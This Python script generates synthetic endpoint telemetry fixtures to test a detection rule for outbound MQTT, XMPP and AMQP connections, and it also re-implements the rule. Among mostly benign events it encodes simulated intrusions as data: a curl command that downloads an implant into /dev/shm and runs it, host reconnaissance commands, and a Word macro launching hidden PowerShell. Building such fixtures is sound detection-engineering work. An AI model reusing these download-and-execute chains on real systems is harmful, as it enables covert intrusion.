#!/usr/bin/env python3
"""Writes the example events: `make.py` writes them, `make.py --check` compares them with what is there.

The same script gives the same events. It needs Python alone. What each story is for stands beside it, and events that
the rule `Outbound Publish/Subscribe Protocol Connection` of the pack `seed` matches are marked with `alert=`, the reason why.
"""

import datetime
import gzip
import hashlib
import io
import json
import pathlib
import sys

HERE = pathlib.Path(__file__).resolve().parent
START = datetime.datetime(2026, 3, 2, 8, 0, 0, tzinfo=datetime.timezone.utc)
BROKER_PORTS = {1883, 8883, 5222, 5223, 5269, 5672, 5671, 61613, 61614}

SYSTEMS = {
    "linux": {"family": "debian", "kernel": "6.1.0-18-amd64", "name": "Linux", "platform": "debian", "type": "linux",
              "version": "12", "full": "Debian 12", "Ext": {"variant": "Debian"}},
    "windows": {"family": "windows", "kernel": "23H2 (10.0.22631.3155)", "name": "Windows", "platform": "windows",
                "type": "windows", "version": "23H2 (10.0.22631.3155)", "full": "Windows 11 Pro",
                "Ext": {"variant": "Windows 11 Pro"}},
    "macos": {"family": "macos", "kernel": "23.4.0", "name": "macOS", "platform": "macos", "type": "macos",
              "version": "14.4", "full": "macOS 14.4", "Ext": {"variant": "macOS"}},
}


def digest(*parts):
    """A stable stand-in for chance."""
    return hashlib.sha256("/".join(map(str, parts)).encode()).hexdigest()


def uuid(*parts):
    d = digest(*parts)
    return f"{d[:8]}-{d[8:12]}-4{d[13:16]}-a{d[17:20]}-{d[20:32]}"


def stamp(seconds, digits=9):
    whole = int(seconds)
    fraction = f"{round((seconds - whole) * 10**9):09d}"[:digits]
    return (START + datetime.timedelta(seconds=whole)).strftime("%Y-%m-%dT%H:%M:%S.") + fraction + "Z"


class Host:
    """A machine with Elastic Defend, and the events it writes."""

    def __init__(self, name, system, ip, user, domain=None):
        self.name, self.system, self.ip, self.user, self.domain = name, system, ip, user, domain
        self.mac = "-".join(["02"] + [digest("mac", name)[i:i + 2].upper() for i in range(0, 10, 2)])
        self.events = []

    def base(self, at, category, types, action, process):
        at += int(digest(self.name, len(self.events), at)[:6], 16) / 2**24
        agent = uuid("agent", self.name)
        event = {
            "@timestamp": stamp(at),
            "agent": {"id": agent, "type": "endpoint", "version": "8.14.3"},
            "data_stream": {"dataset": f"endpoint.events.{category}", "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.10.0"},
            "elastic": {"agent": {"id": agent}},
            "event": {
                "action": action, "category": [category], "created": stamp(at),
                "dataset": f"endpoint.events.{category}",
                "id": f"{self.name}-{len(self.events):03d}", "ingested": stamp(at + 1.75, 3), "kind": "event",
                "module": "endpoint", "outcome": "unknown", "sequence": 4100 + len(self.events), "type": types,
            },
            "host": {
                "architecture": "x86_64", "hostname": self.name, "id": uuid("host", self.name).replace("-", ""),
                "ip": [self.ip, "127.0.0.1", "::1"], "mac": [self.mac],
                "name": self.name, "os": SYSTEMS[self.system],
            },
            "message": f"Endpoint {category} event",
            "process": dict(process),
            "user": {"name": process.get("user", self.user)},
        }
        event["process"].pop("user", None)
        if self.domain:
            event["user"]["domain"] = self.domain
        self.events.append(event)
        return event

    def process(self, path, pid, signed=None, user=None):
        """What every event of a process says of it."""
        name = path.replace("\\", "/").rsplit("/", 1)[-1]
        process = {"entity_id": digest(self.name, path, pid)[:24], "executable": path, "name": name, "pid": pid}
        if signed:
            process["code_signature"] = {"exists": True, "status": "trusted", "subject_name": signed, "trusted": True}
        if user:
            process["user"] = user
        return process

    def starts(self, at, process, command, parent):
        args = command.split(" ")
        process = {**process, "args": args, "args_count": len(args), "command_line": command,
                   "hash": {"sha256": digest("file", process["executable"])},
                   "parent": {key: parent[key] for key in ("entity_id", "executable", "name", "pid")}}
        action = "start" if self.system == "windows" else "exec"
        return self.base(at, "process", ["start"], action, process)

    def ends(self, at, process):
        return self.base(at, "process", ["end"], "end", {**process, "exit_code": 0})

    def looks_up(self, at, process, name, addresses):
        event = self.base(at, "network", ["connection", "protocol", "info"], "lookup_result", process)
        kind = "AAAA" if ":" in addresses[0] else "A"
        event["dns"] = {"question": {"name": name, "type": kind}, "resolved_ip": addresses}
        event["network"] = {"protocol": "dns"}
        event["message"] = "DNS query is completed"
        return event

    def connects(self, at, process, ip, port, action="connection_attempted", transport="tcp", alert=None):
        types = {"disconnect_received": ["end"], "connection_accepted": ["start", "connection"]}
        event = self.base(at, "network", types.get(action, ["start", "connection"]), action, process)
        event["destination"] = {"address": ip, "ip": ip, "port": port}
        event["network"] = {"direction": "egress", "transport": transport, "type": "ipv6" if ":" in ip else "ipv4"}
        event["source"] = {"address": self.ip, "ip": self.ip, "port": 40000 + int(digest(self.name, at)[:3], 16)}
        event["_alert"] = alert
        return event

    def accepts(self, at, process, peer, port):
        """The other side's address is the source, the own port the destination."""
        event = self.connects(at, process, self.ip, port, action="connection_accepted")
        event["network"]["direction"] = "ingress"
        event["source"] = {"address": peer, "ip": peer, "port": 50000 + int(digest(peer, at)[:3], 16)}
        return event


def linux_hosts():
    web = Host("web-01", "linux", "10.20.1.11", "www-data")
    systemd = web.process("/usr/lib/systemd/systemd", 1, user="root")
    nginx = web.process("/usr/sbin/nginx", 611)
    cron = web.process("/usr/sbin/cron", 502, user="root")
    web.starts(1, nginx, "nginx: worker process", systemd)
    for i in range(10):
        web.accepts(30 + 61 * i, nginx, f"198.51.100.{20 + 7 * i}", 443)
        web.connects(31 + 61 * i, nginx, "10.20.1.30", 5432)
        if i % 2 == 0:
            curl = web.process("/usr/bin/curl", 3000 + i, user="root")
            web.starts(40 + 61 * i, curl, "curl -fsS https://deb.example.org/debian/dists/bookworm/InRelease", cron)
            web.looks_up(41 + 61 * i, curl, "deb.example.org", ["203.0.113.80"])
            web.connects(42 + 61 * i, curl, "203.0.113.80", 443)
            web.ends(43 + 61 * i, curl)
    # The words of the rule as an argument are no connection.
    grep = web.process("/usr/bin/grep", 3100, user="root")
    web.starts(700, grep, "grep -c connection_attempted.*1883 /var/log/export.ndjson", cron)

    build = Host("build-02", "linux", "10.20.2.12", "ci")
    runner = build.process("/opt/runner/bin/runner", 900)
    # An honest client: the rule leaves it out by the name of its process.
    for i in range(3):
        client = build.process("/usr/bin/mosquitto_pub", 4000 + i)
        command = f"mosquitto_pub -h broker.example.com -t site/build/{i} -m done"
        build.starts(100 + 200 * i, client, command, runner)
        build.looks_up(101 + 200 * i, client, "broker.example.com", ["203.0.113.20"])
        build.connects(102 + 200 * i, client, "203.0.113.20", 1883)
        build.ends(103 + 200 * i, client)
        git = build.process("/usr/bin/git", 4100 + i)
        build.starts(120 + 200 * i, git, "git fetch --all --prune", runner)
        build.connects(121 + 200 * i, git, "198.51.100.140", 22)
        build.ends(125 + 200 * i, git)
    # The internal queue.
    worker = build.process("/usr/bin/python3.11", 4200)
    build.starts(80, worker, "python3 -m queue_worker --broker amqp://10.20.0.9", runner)
    for i in range(4):
        build.connects(90 + 150 * i, worker, "10.20.0.9", 5672)
        build.connects(95 + 150 * i, worker, "172.16.4.9", 61613)

    # The implant: downloaded by a shell, run from memory-backed storage, it publishes once a minute.
    lab = Host("lab-03", "linux", "10.20.3.13", "maria")
    sshd = lab.process("/usr/sbin/sshd", 800, user="root")
    shell = lab.process("/usr/bin/bash", 5000)
    lab.starts(200, shell, "-bash", sshd)
    curl = lab.process("/usr/bin/curl", 5001)
    lab.starts(215, curl, "curl -s http://files.example.net/k -o /dev/shm/.k/kworkerd", shell)
    lab.looks_up(216, curl, "files.example.net", ["198.51.100.7"])
    lab.connects(217, curl, "198.51.100.7", 80)
    lab.ends(219, curl)
    chmod = lab.process("/usr/bin/chmod", 5002)
    lab.starts(221, chmod, "chmod 755 /dev/shm/.k/kworkerd", shell)
    lab.ends(222, chmod)
    implant = lab.process("/dev/shm/.k/kworkerd", 5003)
    lab.starts(224, implant, "/dev/shm/.k/kworkerd", shell)
    lab.looks_up(225, implant, "broker.example.com", ["203.0.113.20"])
    for i in range(6):
        lab.connects(226 + 60 * i, implant, "203.0.113.20", 1883,
                     alert="an unknown program under `/dev/shm` publishes to a public MQTT broker once a minute")
        lab.connects(231 + 60 * i, implant, "203.0.113.20", 1883, action="disconnect_received")
    for i, tool in enumerate(["whoami", "id", "hostname", "uname"]):
        run = lab.process(f"/usr/bin/{tool}", 5010 + i)
        lab.starts(300 + 2 * i, run, tool, implant)
        lab.ends(301 + 2 * i, run)

    # A gateway: its broker daemon talks to the plant and bridges to the vendor. Left out by name.
    gateway = Host("gw-04", "linux", "10.20.4.14", "mosquitto")
    broker = gateway.process("/usr/sbin/mosquitto", 700)
    gateway.starts(5, broker, "/usr/sbin/mosquitto -c /etc/mosquitto/mosquitto.conf",
                   gateway.process("/usr/lib/systemd/systemd", 1))
    for i in range(6):
        gateway.accepts(20 + 97 * i, broker, f"192.168.40.{10 + i}", 1883)
    gateway.connects(60, broker, "203.0.113.21", 8883)
    gateway.connects(61, broker, "10.20.0.5", 1883)
    # Near misses: another port, and a broker port on the wrong side.
    sensor = gateway.process("/opt/sensor/agent", 710)
    gateway.connects(70, sensor, "203.0.113.21", 1884)
    gateway.connects(75, sensor, "127.0.0.1", 1883)
    odd = gateway.connects(80, sensor, "203.0.113.21", 443)
    odd["source"]["port"] = 1883
    return web, build, lab, gateway


def server_hosts():
    """Servers with honest use that the rule cannot tell apart: the README says so."""
    chat = Host("chat-05", "linux", "10.20.5.15", "prosody")
    prosody = chat.process("/usr/bin/lua5.4", 600)
    chat.starts(2, prosody, "/usr/bin/lua5.4 /usr/bin/prosody -F", chat.process("/usr/lib/systemd/systemd", 1))
    for i in range(8):
        chat.accepts(20 + 45 * i, prosody, f"10.20.9.{30 + i}", 5222)
    chat.looks_up(110, prosody, "xmpp.example.org", ["2001:db8:5::22"])
    chat.connects(111, prosody, "2001:db8:5::22", 5269,
                  alert="an XMPP server federates with another one, over IPv6: honest, and for triage to say so")
    shop = Host("shop-06", "linux", "10.20.6.16", "shop")
    worker = shop.process("/usr/lib/jvm/java-17/bin/java", 640)
    shop.starts(3, worker, "java -jar /opt/shop/worker.jar --queue=amqps://queue.example.com",
                shop.process("/usr/lib/systemd/systemd", 1))
    for i in range(8):
        shop.connects(30 + 50 * i, worker, "10.20.1.30", 5432)
        shop.connects(32 + 50 * i, worker, "192.168.7.7", 61614)
    shop.looks_up(200, worker, "queue.example.com", ["203.0.113.90"])
    shop.connects(201, worker, "203.0.113.90", 5671,
                  alert="a shop's worker uses a hosted AMQP queue: honest, and for triage to say so")
    # No process: the sensor did not see which one it was. A missing name is none of the four.
    lost = shop.connects(260, worker, "198.51.100.99", 8883,
                         alert="the process is unknown, so it is no known client")
    for key in ("name", "executable"):
        del lost["process"][key]
    return chat, shop


def windows_hosts():
    office = Host("WS-1001", "windows", "10.20.10.21", "anna", "EXAMPLE")
    explorer = office.process("C:\\Windows\\explorer.exe", 4400, "Microsoft Windows")
    edge = office.process("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", 5200, "Microsoft Corporation")
    svchost = office.process("C:\\Windows\\System32\\svchost.exe", 1200, "Microsoft Windows Publisher", user="SYSTEM")
    word = office.process("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", 6100, "Microsoft Corporation")
    shell = office.process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 6200, "Microsoft Windows")
    # The implant: a document starts a shell, which starts a program that speaks MQTT over TLS.
    implant = office.process("C:\\Users\\anna\\AppData\\Local\\SyncHelper\\synchelper.exe", 6300)
    implant["code_signature"] = {"exists": False}
    office.starts(10, edge, '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --no-startup-window', explorer)
    for i in range(10):
        office.looks_up(20 + 40 * i, edge, f"www{i}.example.com", [f"198.51.100.{50 + i}"])
        office.connects(21 + 40 * i, edge, f"198.51.100.{50 + i}", 443)
        office.connects(25 + 40 * i, svchost, "10.20.0.2", 389)
    office.starts(120, word, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\anna\\Downloads\\Rechnung März.docm"', explorer)
    office.starts(131, shell, "powershell.exe -NoProfile -WindowStyle Hidden -File C:\\Users\\anna\\AppData\\Local\\Temp\\u.ps1", word)
    office.connects(133, shell, "198.51.100.7", 443)
    office.starts(140, implant, "C:\\Users\\anna\\AppData\\Local\\SyncHelper\\synchelper.exe --silent", shell)
    office.looks_up(141, implant, "mqtt.example.net", ["203.0.113.77"])
    for i in range(5):
        office.connects(142 + 90 * i, implant, "203.0.113.77", 8883,
                        alert="an unsigned program under `AppData`, started by way of a Word document, speaks MQTT over TLS")
    office.ends(500, shell)

    desk = Host("WS-1002", "windows", "10.20.10.22", "tom", "EXAMPLE")
    explorer = desk.process("C:\\Windows\\explorer.exe", 4300, "Microsoft Windows")
    chat = desk.process("C:\\Program Files (x86)\\Pidgin\\pidgin.exe", 5100)
    desk.starts(60, chat, '"C:\\Program Files (x86)\\Pidgin\\pidgin.exe"', explorer)
    desk.looks_up(61, chat, "xmpp.example.net", ["198.51.100.60"])
    desk.connects(62, chat, "198.51.100.60", 5222,
                  alert="a chat client uses XMPP: honest, and for triage to say so")
    # Names are compared without regard to case.
    broker = desk.process("C:\\Program Files\\mosquitto\\MOSQUITTO.EXE", 5300)
    desk.connects(80, broker, "203.0.113.20", 8883)
    # This one is not among the four names.
    client = desk.process("C:\\Program Files\\mosquitto\\mosquitto_pub.exe", 5310)
    desk.connects(90, client, "203.0.113.20", 8883,
                  alert="`mosquitto_pub.exe` is not among the names that the rule leaves out")
    for i in range(6):
        desk.connects(100 + 70 * i, desk.process("C:\\Windows\\System32\\svchost.exe", 1100, user="SYSTEM"), "10.20.0.2", 88)
        desk.ends(103 + 70 * i, desk.process("C:\\Windows\\System32\\conhost.exe", 7000 + i))
    return office, desk


def mac_host():
    mac = Host("mac-01", "macos", "10.20.11.31", "lea")
    push = mac.process("/System/Library/PrivateFrameworks/ApplePushService.framework/apsd", 310, "Software Signing", user="root")
    chrome = mac.process("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", 900, "Google LLC")
    mac.starts(1, chrome, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", mac.process("/sbin/launchd", 1))
    for i in range(2):
        mac.looks_up(15 + 240 * i, push, "courier.push.apple.com", ["17.57.144.20"])
        mac.connects(16 + 240 * i, push, "17.57.144.20", 5223,
                     alert="a push service on port 5223, as every Mac has it: honest, and for triage to say so")
    for i in range(8):
        mac.connects(30 + 55 * i, chrome, f"203.0.113.{100 + i}", 443)
    return mac


def other_layouts():
    """The same JSON written in other ways. A reader must take them all alike."""
    host = Host("lab-07", "linux", "10.20.7.17", "kofi")
    implant = host.process("/tmp/.cache/beam", 5600)
    reason = "the same implant, its event written "
    plain = host.connects(300, implant, "203.0.113.20", 1883, alert=reason + "with dotted keys")
    yield compact(dotted(plain))
    plain = host.connects(360, implant, "203.0.113.20", 1883, alert=reason + "with escapes in keys and values")
    text = compact(plain).replace("connection_attempted", "connection\\u005fattempted")
    yield text.replace('"destination"', '"d\\u0065stination"').replace("/tmp", "\\/tmp")
    plain = host.connects(420, implant, "203.0.113.20", 1883, alert=reason + "with blanks between everything")
    yield json.dumps(bare(plain), separators=(" , ", " : "))
    plain = host.connects(480, implant, "203.0.113.20", 1883, alert=reason + "with a port in quotes and a category without list")
    plain["destination"]["port"] = "1883"
    plain["event"]["category"] = "network"
    yield compact(plain)
    plain = host.connects(540, implant, "203.0.113.20", 1883, alert=reason + "half dotted, half nested")
    mixed = bare(plain)
    destination = mixed.pop("destination")
    mixed["destination.ip"] = destination.pop("ip")
    mixed["destination"] = destination
    yield compact(mixed)
    # Escapes and other scripts that hide nothing.
    shell = host.process("/usr/bin/bash", 5601)
    honest = host.starts(550, shell, 'bash -c "printf \'%s\\n\' \'Größe: 5\u202f€ 日本 🚀\'"', implant)
    yield json.dumps(honest, separators=(",", ":"))
    yield compact(dotted(host.connects(560, implant, "10.20.0.5", 1883)))
    OTHERS.append(host)


OTHERS = []


def dotted(value, prefix=""):
    out = {}
    for key, inner in bare(value).items():
        if isinstance(inner, dict):
            out.update(dotted(inner, f"{prefix}{key}."))
        else:
            out[f"{prefix}{key}"] = inner
    return out


def bare(event):
    """The event without the note for the README."""
    return {key: value for key, value in event.items() if key != "_alert"}


def compact(event):
    return json.dumps(bare(event), separators=(",", ":"), ensure_ascii=False)


def merged(*hosts):
    return sorted((event for host in hosts for event in host.events), key=lambda event: event["@timestamp"])


def lines(events):
    return "".join(compact(event) + "\n" for event in events)


def packed(text):
    """gzip without a name or a time, so that the same text gives the same file."""
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, compresslevel=9, mtime=0) as file:
        file.write(text.encode())
    return out.getvalue()


def matches(event):
    """The rule, written out once more, so that a story cannot claim an alert that it does not give."""
    destination, name = event.get("destination", {}), event["process"].get("name", "")
    ip, port = destination.get("ip", ""), int(destination.get("port", 0))
    first, second = (ip.split(".") + ["", ""])[:2]
    inside = first in ("10", "127") or (first, second) == ("192", "168")
    inside = inside or (first == "172" and 16 <= int(second) <= 31)
    client = port in (1883, 8883) and name.lower() in ("mosquitto", "mosquitto_pub", "mosquitto_sub", "mosquitto.exe")
    attempted = event["event"]["action"] == "connection_attempted"
    return attempted and port in BROKER_PORTS and not inside and not client


def files():
    linux, servers, windows, mac = linux_hosts(), server_hosts(), windows_hosts(), mac_host()
    others = "".join(line + "\n" for line in other_layouts())
    everyone = merged(*linux, *servers, *windows, mac, *OTHERS)
    for event in everyone:
        assert matches(event) == bool(event.get("_alert")), event
    array = "[\n" + ",\n".join(compact(event) for event in merged(mac)) + "\n]\n"
    return {
        "events/linux.ndjson": lines(merged(*linux)).encode(),
        "events/servers.ndjson.gz": packed(lines(merged(*servers))),
        "events/windows.ndjson": lines(merged(*windows)).encode(),
        "events/macos.json": array.encode(),
        "events/layouts.ndjson": others.encode(),
    }


def unpacked(name, data):
    return gzip.decompress(data) if name.endswith(".gz") else data


def main():
    made = files()
    if sys.argv[1:] == ["--check"]:
        # Two zlibs may pack the same text differently; the text is what counts.
        stale = [name for name, data in made.items()
                 if not (HERE / name).is_file() or unpacked(name, (HERE / name).read_bytes()) != unpacked(name, data)]
        if stale:
            sys.exit(f"not what make.py writes: {', '.join(stale)}")
        return
    (HERE / "events").mkdir(exist_ok=True)
    for name, data in made.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
